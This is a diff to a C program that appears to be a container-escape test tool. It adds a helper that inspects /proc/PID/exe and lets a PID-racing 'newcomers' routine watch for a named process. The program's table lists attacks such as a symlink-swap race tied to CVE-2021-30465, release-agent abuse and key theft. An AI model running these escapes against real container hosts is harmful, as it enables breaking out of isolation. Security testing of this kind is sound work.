@@ -25,16 +25,19 @@ static long keyctl(int command, long a, long b, long c, long d) {
   return syscall(SYS_keyctl, command, a, b, c, d);
 }
 
-// Whether the engine's program runs as this process: it has no name in the container's root.
-static int is_engine(int pid) {
+// Whether the program that runs as this process has a name with `part` in it.
+static int runs(int pid, const char* part) {
   char path[64];
   char target[512];
   (void)snprintf(path, sizeof path, "/proc/%d/exe", pid);
   const ssize_t size = readlink(path, target, sizeof target - 1);
   if (size < 0) return 0;
   target[size] = 0;
-  return strstr(target, "tare") != NULL;
+  return strstr(target, part) != NULL && printf("process %d runs %s\n", pid, target) > 0;
 }
+
+// The engine's program has no name in the container's root.
+static int is_engine(int pid) { return runs(pid, "tare"); }
 
 // swap A B: exchanges two names as fast as it can. [CVE-2021-30465]
 static long swap_names(char** arguments) {
@@ -188,15 +191,15 @@ static long write_to(char** arguments) {
 
 // Looks into whatever runs the engine's program while it becomes a container: which program a
 // process runs is told to those alone who may trace it. [proc_pid_exe(5)] A newcomer is there for
-// milliseconds, so only the numbers are looked at that come next.
+// milliseconds, so only the numbers are looked at that come next. What has CONTROL in its name
+// shows what a success is.
 static long newcomers(char** arguments) {
-  (void)arguments;
   enum { kBehind = 8, kAhead = 24 };
   for (int newest = getpid();;)
     for (int pid = newest > kBehind ? newest - kBehind : 1, end = newest + kAhead; pid < end;
          ++pid) {
       if (pid == getpid()) continue;
-      if (is_engine(pid)) return 0;
+      if (is_engine(pid) || runs(pid, arguments[0])) return 0;
       if (pid > newest && (kill(pid, 0) == 0 || errno == EPERM)) newest = pid;
     }
 }
@@ -208,7 +211,7 @@ static const struct {
 } attacks[] = {
     {"swap", 2, swap_names}, {"reach", 1, reach},         {"trace-engine", 0, trace_engine},
     {"keys", 1, leave_keys}, {"take-keys", 0, take_keys}, {"release-agent", 0, release_agent},
-    {"hostile", 1, hostile}, {"write", 1, write_to},      {"newcomers", 0, newcomers}};
+    {"hostile", 1, hostile}, {"write", 1, write_to},      {"newcomers", 1, newcomers}};
 
 int main(int argc, char** argv) {
   for (size_t i = 0; argc >= 2 && i < sizeof attacks / sizeof *attacks; ++i) {
